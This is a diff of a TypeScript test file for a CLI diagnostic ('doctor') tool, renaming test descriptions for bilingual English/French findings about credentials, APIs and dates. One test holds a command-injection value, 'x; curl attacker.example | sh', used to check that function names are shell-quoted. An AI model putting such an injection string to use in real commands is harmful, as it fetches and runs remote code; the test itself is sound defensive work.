@@ -6,8 +6,8 @@ import { exampleOf, FINDING_CODES, FINDINGS, found } from "../../../cli/doctor/f
 
 const ROWS = ENVIRONMENTS.flatMap((environment) => FINDING_CODES.map((code) => [environment, code] as const));
 
-describe("a row of the doctor's table", () => {
-  it.each(ROWS)("in %s, %s, blames a step of that environment and says why and what next", (environment, code) => {
+describe("a finding", () => {
+  it.each(ROWS)("in %s, %s, has a step of that environment, a cause and a next step", (environment, code) => {
     const row = exampleOf(code, environment);
     expect(GUIDE[environment].map(({ id }) => id)).toContain(row.step);
     for (const language of LANGUAGES) {
@@ -19,14 +19,14 @@ describe("a row of the doctor's table", () => {
     }
   });
 
-  it("that only time mends is not seen yet, never missing", () => {
+  it("with the owner `wait` is not-seen-yet, never missing", () => {
     for (const code of FINDING_CODES) {
       const { owner, status } = exampleOf(code, "prod");
       if (owner === "wait") expect([code, status]).toEqual([code, "not-seen-yet"]);
     }
   });
 
-  it("is spoken in two languages that differ", () => {
+  it("has two languages that differ", () => {
     for (const code of FINDING_CODES.filter((name) => name !== "bug")) {
       const { cause, next } = exampleOf(code, "qualif");
       expect([code, cause.fr]).not.toEqual([code, cause.en]);
@@ -34,7 +34,7 @@ describe("a row of the doctor's table", () => {
     }
   });
 
-  it("names a function in a command so that a shell takes it for one word, whatever a description calls it", () => {
+  it("quotes a function's name in a command for the shell", () => {
     const details = { functionName: "x; curl attacker.example | sh", secret: "token" };
     const { next } = found("token-absent", { environment: "qualif" }, details);
     for (const language of LANGUAGES) {
@@ -42,7 +42,7 @@ describe("a row of the doctor's table", () => {
     }
   });
 
-  it("names in its commands what has to be named, and nothing else", () => {
+  it("has only the necessary options in its commands", () => {
     const place = { environment: "qualif", application: "facturation", account: "client-a" } as const;
     expect(found("account-empty", place, {}).next.en).toContain(
       "`npx piste credentials set qualif technical-account --application facturation --account client-a`",
@@ -59,7 +59,7 @@ describe("a row of the doctor's table", () => {
     [0, "None of the 4 APIs answers", "Aucune des 4 API ne répond au compte technique"],
     [1, "1 of 4 APIs answers", "1 API sur 4 répond au compte technique"],
     [3, "3 of 4 APIs answer", "3 API sur 4 répondent au compte technique"],
-  ])("counts %i APIs as a person does, and says that habilitations are missing", (answered, en, fr) => {
+  ])("counts %i APIs in words, and says that habilitations are missing", (answered, en, fr) => {
     const details = { apis: ["Factures"], answered, total: 4, said: "403" };
     const { cause } = found("habilitation-missing", { environment: "qualif" }, details);
     expect(cause.en).toBe(
@@ -68,7 +68,7 @@ describe("a row of the doctor's table", () => {
     expect(cause.fr).toBe(`${fr} ; Factures le refuse (403) : les habilitations manquent probablement.`);
   });
 
-  it("counts no API let in as a person does, and the only one, too", () => {
+  it("counts no API and a single API in words", () => {
     const letIn = (total: number) =>
       found("api-not-selected", { environment: "qualif" }, { missing: ["Factures"], selected: 0, total }).cause;
     expect(letIn(4).fr).toMatch(/^Aucune des 4 API ne laisse entrer l'application ; manque Factures/);
@@ -81,12 +81,12 @@ describe("a row of the doctor's table", () => {
     found("account-refused", { environment: "prod" }, { expiredOn: "2026-12-13" }),
     found("account-refused-before", { environment: "prod" }, { expiredOn: "2026-12-13" }),
     found("account-overdue", { environment: "prod" }, { by: "2026-12-13" }),
-  ])("$code says a day as people write it", ({ cause }) => {
+  ])("$code writes a day in words", ({ cause }) => {
     expect(cause.en).toContain(" 13 December 2026");
     expect(cause.fr).toContain(" le 13 décembre 2026");
   });
 
-  it("of an API that is not selected knows « Aucune API souscrite », and both labels of the button", () => {
+  it("about an API that is not selected quotes « Aucune API souscrite » and both labels of the button", () => {
     const { next } = exampleOf("api-not-selected", "prod");
     for (const language of LANGUAGES) {
       expect(next[language]).toContain("« Aucune API souscrite »");
@@ -95,7 +95,7 @@ describe("a row of the doctor's table", () => {
   });
 
   it.each(["aws-no-credentials", "aws-failed", "bug", "function-failed"] as const)(
-    "%s quotes in a French sentence what was said in English",
+    "%s quotes the English message in a French sentence",
     (code) => {
       const { cause, next } = exampleOf(code, "qualif");
       expect(cause.fr).toMatch(/[Mm]essage (d'AWS|d'origine)[^«]* : « [A-Z][^»]* »\)?\./);
@@ -103,7 +103,7 @@ describe("a row of the doctor's table", () => {
     },
   );
 
-  it("that waits for a value to be stored says what comes first", () => {
+  it("about a value to store later names the steps before", () => {
     expect(FINDINGS["client-empty"].first?.en).toBe("store the client credentials");
     expect(FINDINGS["account-empty"].first?.en).toBe("store the technical account");
   });
